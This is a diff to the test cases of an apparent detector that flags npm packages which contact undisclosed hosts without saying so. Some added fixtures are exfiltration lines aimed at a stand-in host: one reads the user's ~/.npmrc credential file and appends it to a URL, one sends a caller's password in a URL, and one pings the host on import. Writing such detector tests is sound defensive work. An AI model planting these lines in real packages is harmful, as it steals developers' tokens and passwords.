@@ -68,8 +68,51 @@ examine(contactsUnnamedHost, {
       },
       weight: 'weak',
     },
+    {
+      when: 'it lets a host know that it was imported, and does not care for the answer',
+      files: { 'README.md': PAGE, 'index.js': `require('https').get('https://up.tally-marks.invalid/ping')` },
+      weight: 'strong',
+    },
+    {
+      when: 'the answer is used',
+      files: {
+        'README.md': PAGE,
+        'index.js': `require('https').get('https://up.tally-marks.invalid/rates', answer => answer.pipe(process.stdout))`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the address has a token in it that was read from a file',
+      files: {
+        'README.md': PAGE,
+        'index.js': `const fs = require('fs'); exports.cellar = () => require('https').get('https://up.tally-marks.invalid/?t=' + fs.readFileSync(require('os').homedir() + '/.npmrc', 'hex'))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the address has the password of a caller in it',
+      files: {
+        'README.md': PAGE,
+        'index.js': `exports.cellar = user => require('https').get('https://up.tally-marks.invalid/?t=' + user.password)`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
+    {
+      when: 'its page names the service by the first part of its name, in a sentence',
+      files: {
+        'README.md': `${PAGE} Copies go to a public service (Cellarage, or one of yours).`,
+        'index.js': COPY.replace('cellar-quorum', 'cellarage-eu'),
+      },
+    },
+    {
+      when: 'the account that stands before a known domain is the user’s',
+      files: {
+        'README.md': PAGE,
+        'index.js': `exports.cellar = text => fetch('https://' + process.env.CELLAR_ACCOUNT + '.blob.tally-marks.invalid/', { method: 'PUT', body: text })`,
+      },
+    },
     {
       when: 'it has no page, and only asks',
       files: { 'index.js': `exports.rates = () => fetch('https://rates.tally-marks.invalid/eur').then(answer => answer.json())` },
